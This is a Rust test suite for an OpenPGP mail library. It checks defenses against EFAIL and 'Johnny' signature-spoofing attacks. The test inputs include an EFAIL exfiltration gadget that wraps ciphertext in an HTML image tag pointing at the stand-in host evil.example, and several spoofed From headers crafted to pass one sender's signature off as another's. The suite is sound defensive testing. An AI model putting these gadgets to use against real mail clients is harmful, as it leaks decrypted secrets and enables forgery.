//! Attacks on mails: EFAIL (Poddebniak et al. 2018), "Johnny, you are fired!" (Müller et al. 2019), "Re: What's up Johnny?" (Müller et al.
//! 2019). Each test says what the reader sees.

#[path = "../mails/cast.rs"]
#[allow(dead_code)]
mod people;

use self::people::*;
use envelock::armor::{ArmorKind, read_one, write};
use envelock::mail::Mail;
use envelock::message::{FromMatch, Reason, SignOptions, SignatureForm, Signer, VerdictStatus, sign};
use envelock::{Certificate, Limits, Policy, Profile, SecretKey};

const FROM_ANNA: &str = "From: Anna <anna@demo.example>\nSubject: Pay\n";
const WORDS: &str = "Content-Type: text/plain\n\nAnna's words";

fn anna() -> SecretKey {
    key(Profile::Compat, "Anna")
}

fn eve() -> SecretKey {
    key(Profile::Compat, "Eve")
}

/// Everybody knows both.
fn everybody() -> [Certificate; 2] {
    [anna().certificate(), eve().certificate()]
}

fn read(mail: &str) -> Mail {
    opened(mail.as_bytes(), &[], &everybody())
}

/// A multipart with another boundary, to stand in one of the same.
fn inner(entity: &str, boundary: &str) -> String {
    entity.replace(&format!("boundary={boundary}"), "boundary=inner").replace(&format!("--{boundary}"), "--inner")
}

/// Nothing says "signed" but the parts with these texts.
fn only_signed(mail: &Mail, texts: &[&str]) {
    assert_eq!(mail.protection.code(), "unprotected", "{:?}", seen(mail));
    assert!(mail.signatures.is_empty() && mail.fields.iter().all(|field| field.protection.code() == "unprotected"));
    let shown = seen(mail).into_iter().filter(|(.., state)| *state == "signed").map(|(_, text, _)| text);
    assert_eq!(shown.collect::<Vec<_>>(), texts, "{:?}", seen(mail));
}

#[test]
fn efail_an_encrypted_part_between_parts_in_the_clear() {
    let bert = key(Profile::Compat, "Bert");
    let secret = pgp_mime(&encrypted(b"Content-Type: text/html\n\nsecret", &bert, &[]));
    let (open, close) =
        ("Content-Type: text/html\n\n<img src=\"http://evil.example/", "Content-Type: text/html\n\n\">");
    for kind in ["mixed", "related", "alternative"] {
        let mail = format!("{FROM_ANNA}{}", multipart(kind, &[open, &secret, close]));
        let read = opened(mail.as_bytes(), &[&bert], &[]);
        let states: Vec<_> = read.parts.iter().map(|part| part.protection.code()).collect();
        assert_eq!(states, ["unprotected", "encrypted", "unprotected"]);
        let layers: Vec<_> = read.parts.iter().map(|part| part.layer).collect();
        assert_eq!(layers, [0, 1, 0], "different layers are never put together");
        assert_eq!(read.parts[1].group, None, "no part in the clear stands for what was encrypted");
        assert_eq!(read.protection.code(), "unprotected");
    }
}

#[test]
fn decrypted_text_does_not_vanish_behind_what_surrounds_it() {
    // The payload looks like the forerunner's repeated header fields; around it stands a multipart it does not belong to.
    let bert = key(Profile::Compat, "Bert");
    let payload = b"Content-Type: text/plain; protected-headers=\"v1\"\nSubject: x\n\nSubject: secret";
    let parts = multipart("mixed", &[&pgp_mime(&encrypted(payload, &bert, &[])), "\nclear"]);
    let read = opened(format!("{FROM_ANNA}{parts}").as_bytes(), &[&bert], &[]);
    assert_eq!(seen(&read), [("1.1", "Subject: secret", "encrypted"), ("2", "clear", "unprotected")]);
    let signed = multipart("alternative", &["\nnot hers", &signed_by(WORDS, &anna())]);
    let read = self::read(&format!("{FROM_ANNA}{signed}"));
    let groups: Vec<_> = read.parts.iter().map(|part| part.group.is_some()).collect();
    assert_eq!(groups, [true, false], "what Anna signed is no alternative to what she did not");
}

#[test]
fn efail_gadgets_a_changed_ciphertext_shows_nothing() {
    let bert = key(Profile::Compat, "Bert");
    let message = encrypted(b"Content-Type: text/html\n\nsecret secret secret secret", &bert, &[]);
    let octets = read_one(message.as_bytes(), &Limits::default()).unwrap().octets;
    for change in [octets.len() - 50, octets.len() - 30, octets.len() - 1] {
        let mut changed = octets.clone();
        changed[change] ^= 1;
        let mail = format!("{FROM_ANNA}{}", pgp_mime(&write(ArmorKind::Message, &changed)));
        let read = opened(mail.as_bytes(), &[&bert], &[]);
        assert_eq!(seen(&read), [("1", "decryption-failed", "unprotected")]);
        assert!(read.parts[0].data.is_empty() && read.protection.code() == "unprotected");
    }
}

#[test]
fn johnny_a_signed_part_within_an_unsigned_mail() {
    let signed = signed_by(WORDS, &anna());
    let evil = "Content-Type: text/html\n\nPay Eve";
    let deep = inner(&multipart("mixed", &[&signed]), "part");
    for (kind, parts) in [
        ("mixed", [evil, signed.as_str()]),
        ("mixed", [&signed, evil]),
        ("mixed", [evil, &deep]),
        ("related", [evil, &signed]),
        ("alternative", [&signed, evil]),
    ] {
        let read = read(&format!("{FROM_ANNA}{}", multipart(kind, &parts)));
        only_signed(&read, &["Anna's words"]);
        let layer =
            |text: &str| read.parts.iter().find(|part| part.text.as_deref().unwrap().contains(text)).unwrap().layer;
        assert_ne!(layer("Pay Eve"), layer("Anna's words"));
    }
}

#[test]
fn johnny_a_signed_picture_drawn_into_an_unsigned_page() {
    let picture = signed_by("Content-Type: image/png\nContent-ID: <p>\n\nPNG", &anna());
    let page = "Content-Type: text/html\n\nPay Eve <img src=\"cid:p\">";
    let read = read(&format!("{FROM_ANNA}{}", multipart("related", &[page, &picture])));
    let states: Vec<_> =
        read.parts.iter().map(|part| (part.layer, part.protection.code(), part.group.is_some())).collect();
    assert_eq!(
        states,
        [(0, "unprotected", true), (1, "signed", false)],
        "cid: links lead to parts of the same layer only"
    );
}

#[test]
fn johnny_a_forwarded_signed_mail_is_a_file() {
    let forwarded = format!("Content-Type: message/rfc822\n\n{FROM_ANNA}{}", inner(&signed_by(WORDS, &anna()), "sig"));
    let read = read(&format!("{FROM_ANNA}{}", multipart("mixed", &["\nPay Eve", &forwarded])));
    only_signed(&read, &[]);
    assert_eq!(read.parts[1].mime_type, "message/rfc822");
    let whole = self::read(&format!("From: Anna <anna@demo.example>\n{forwarded}"));
    only_signed(&whole, &[]);
    // What Eve forwards and signs is signed by Eve.
    let by_eve = self::read(&format!("{FROM_ANNA}{}", signed_by(&forwarded, &eve())));
    assert_eq!((by_eve.protection.code(), by_eve.signatures[0].from), ("unprotected", Some(FromMatch::Mismatch)));
}

#[test]
fn johnny_text_around_a_cleartext_signature() {
    let key = anna();
    let signers = [Signer { key: &key, passphrase: None }];
    let options = SignOptions {
        data: b"Anna's words",
        signers: &signers,
        form: SignatureForm::Cleartext,
        ..SignOptions::default()
    };
    let block = sign(options, &Policy::default(), &Limits::default(), now(), &mut rng(5)).unwrap();
    let block = String::from_utf8(block).unwrap();
    let around = read(&format!("{FROM_ANNA}\nPay Eve\n{block}And soon\n"));
    only_signed(&around, &["Anna's words"]);
    assert_eq!(seen(&around).len(), 3);
    for (changed, what) in [
        (block.replace("Anna's words", "Anna's words\n- and Eve's"), "bad signature"),
        (block.replace("Hash: SHA256\n", "Hash: SHA256\nComment: Pay Eve\n"), "another header"),
        (
            block.replace(
                "-----BEGIN PGP SIGNATURE",
                "- \n-----BEGIN PGP SIGNED MESSAGE-----\n\nx\n-----BEGIN PGP SIGNATURE",
            ),
            "two",
        ),
        (block.lines().map(|line| format!("> {line}\n")).collect(), "quoted"),
    ] {
        let read = read(&format!("{FROM_ANNA}\n{changed}"));
        only_signed(&read, &[]);
        assert!(!seen(&read).is_empty(), "{what}");
    }
    // In HTML it is no more than text.
    only_signed(&read(&format!("{FROM_ANNA}Content-Type: text/html\n\n{block}")), &[]);
}

#[test]
fn johnny_who_signed_is_not_who_is_shown() {
    let signed = signed_by(WORDS, &eve());
    for from in [
        "From: anna@demo.example",
        "From: \"eve@demo.example\" <anna@demo.example>",
        "From: eve@demo.example <anna@demo.example>",
        "From: anna@demo.example (eve@demo.example)",
        "From: =?utf-8?Q?eve=40demo.example?= <anna@demo.example>",
        "From: anna@demo.example, eve@demo.example",
        "From: eve@demo.example\nFrom: anna@demo.example",
        "From: <eve@demo.example> <anna@demo.example>",
        "From: Anna <anna@demo.example> <eve@demo.example>",
        "From: anna@demo.example\nSender: eve@demo.example\nReply-To: eve@demo.example",
        "From: eve@demo.example.evil.example",
        "Sender: eve@demo.example",
    ] {
        let read = read(&format!("{from}\n{signed}"));
        let found = (read.protection.code(), read.signatures[0].status, read.signatures[0].from);
        assert_eq!(found, ("unprotected", VerdictStatus::Valid, Some(FromMatch::Mismatch)), "{from}");
        assert_eq!(seen(&read)[0].2, "unprotected", "{from}");
    }
    let read = read(&format!("From: eve@demo.example\n{signed}"));
    assert_eq!((read.protection.code(), seen(&read)[0].2), ("signed", "signed"));
}

#[test]
fn johnny_a_name_that_is_another_address() {
    let signed = signed_by(WORDS, &eve());
    for name in ["\"anna@demo.example\"", "=?utf-8?Q?anna=40demo.example?=", "\"Anna <anna@demo.example>\""] {
        let author = read(&format!("From: {name} <eve@demo.example>\n{signed}")).from.unwrap();
        assert_eq!((author.name.as_str(), author.address.as_str()), ("", "eve@demo.example"));
    }
    let turned = read(&format!("From: =?utf-8?Q?Anna=E2=80=AE?= <eve@demo.example>\n{signed}")).from.unwrap();
    assert_eq!(turned.name, "Anna", "nothing turns the direction of the address");
    let own = read("From: \"Eve@demo.example\" <eve@demo.example>\n\nx").from.unwrap();
    assert_eq!(own.name, "Eve@demo.example");
}

#[test]
fn johnny_structures_in_which_two_programs_see_different_parts() {
    let signed = signed_by(WORDS, &anna());
    let third = signed.replace("--sig--", "--sig\n\nPay Eve\n--sig--");
    let other = signed.replace("application/pgp-signature", "application/pkcs7-signature");
    let first = signed.replacen("--sig\n", "--sig\n\nPay Eve\n--sig\n", 1);
    for (changed, texts) in [(third, "malformed"), (first, "malformed"), (other, "Anna's words")] {
        let read = read(&format!("{FROM_ANNA}{changed}"));
        only_signed(&read, &[]);
        assert_eq!(seen(&read)[0].1, texts);
    }
    // Before the first delimiter and behind the last one stands nothing.
    let padded = signed.replacen("\n--sig", "\nPay Eve\n--sig", 1) + "Pay Eve\n";
    let read = read(&format!("{FROM_ANNA}{padded}"));
    assert_eq!(seen(&read), [("1", "Anna's words", "signed")]);
    assert_eq!(field(&read, "subject").1, "unprotected", "Anna did not sign it");
    // Two types: no type.
    let both = self::read(&format!("{FROM_ANNA}Content-Type: text/plain\n{signed}"));
    only_signed(&both, &[]);
}

#[test]
fn several_signatures_an_invalid_one_spoils_the_valid_ones() {
    let (good, of_eve) = (signature(WORDS, &anna()), signature(WORDS, &eve()));
    let (bad, bad_of_eve) = (signature("other", &anna()), signature("other", &eve()));
    let stranger = signature(WORDS, &key(Profile::Rfc9580, "Stranger"));
    for (signatures, protection) in [
        (vec![&good], "signed"),
        (vec![&good, &of_eve], "signed"),
        (vec![&of_eve, &stranger, &good], "signed"),
        (vec![&good, &bad], "unprotected"),
        (vec![&bad_of_eve, &good], "unprotected"),
        (vec![&of_eve], "unprotected"),
        (vec![&of_eve, &stranger], "unprotected"),
        (vec![&stranger], "unprotected"),
    ] {
        let all: Vec<u8> = signatures.iter().copied().flatten().copied().collect();
        let read = read(&format!("{FROM_ANNA}{}", with_signature(WORDS, &all)));
        assert_eq!(read.signatures.len(), signatures.len(), "each is told");
        assert_eq!((read.protection.code(), seen(&read)[0].2), (protection, protection), "{:?}", read.signatures);
    }
    // Junk in place of a signature is an invalid one; one around the other counts like one beside it.
    let junk = with_signature(WORDS, b"").replace("-----BEGIN", "BEGIN");
    let read = read(&format!("{FROM_ANNA}{junk}"));
    assert_eq!((read.protection.code(), read.signatures[0].reason), ("unprotected", Some(Reason::Malformed)));
    let twice = signed_by(&inner(&signed_by(WORDS, &anna()), "sig"), &eve());
    let twice = self::read(&format!("{FROM_ANNA}{twice}"));
    assert_eq!((twice.protection.code(), twice.signatures.len()), ("signed", 2));
    let spoiled = with_signature(&inner(&signed_by(WORDS, &anna()), "sig"), &bad_of_eve);
    let spoiled = self::read(&format!("{FROM_ANNA}{spoiled}"));
    assert_eq!((spoiled.protection.code(), spoiled.signatures.len()), ("unprotected", 2));
}

#[test]
fn a_signed_mail_sent_on_to_somebody_else() {
    let (bert, cleo, anna) = (key(Profile::Compat, "Bert"), key(Profile::Compat, "Cleo"), anna());
    // Bert takes what Anna wrote to him out of the encryption and encrypts it to Cleo, signature and all.
    let to_bert = draft();
    let mail = written(&to_bert, &[&anna], &[bert.certificate()], true);
    let read = opened(&mail, &[&bert], &everybody());
    assert_eq!(read.protection.code(), "signed-and-encrypted");
    assert_eq!(read.signatures[0].intended_recipients, [bert.fingerprint()]);
    let text = String::from_utf8(mail).unwrap();
    let block = &text[text.find("-----BEGIN").unwrap()..text.find("-----END PGP MESSAGE-----").unwrap() + 25];
    let on = self::passed_on(block, &bert, &cleo);
    let read = opened(format!("{FROM_ANNA}{}", pgp_mime(&on)).as_bytes(), &[&cleo], &everybody());
    assert_eq!(read.parts[0].text.as_deref(), Some("All is well.\r\n"));
    assert_eq!(read.signatures[0].reason, Some(Reason::NotIntendedRecipient));
    assert_eq!(read.protection.code(), "encrypted");
}

/// The same message for one more reader.
fn passed_on(message: &str, from: &SecretKey, to: &SecretKey) -> String {
    use envelock::message::{
        DecryptOptions, Decryptor, Format, SessionKeyOptions, decrypt_blocking, encrypt_session_key,
    };
    use envelock_seipd::engine::{RustCrypto, ready};
    let (policy, limits) = (Policy::default(), Limits::default());
    let keys = [Decryptor { key: from, passphrase: None }];
    let options = DecryptOptions { message: message.as_bytes(), keys: &keys, ..DecryptOptions::default() };
    let opened = decrypt_blocking(options, &policy, &limits, now(), &mut ()).unwrap();
    let recipients = [to.certificate()];
    let session_key = opened.session_key.unwrap();
    let options = SessionKeyOptions {
        session_key: &session_key,
        recipients: &recipients,
        passwords: &[],
        format: Format::SeipdV1,
        hide_recipients: false,
        armor: false,
    };
    let mut packets = ready(encrypt_session_key(options, &policy, &limits, now(), &mut rng(6), &RustCrypto)).unwrap();
    packets.extend(read_one(message.as_bytes(), &limits).unwrap().octets);
    write(ArmorKind::Message, &packets)
}
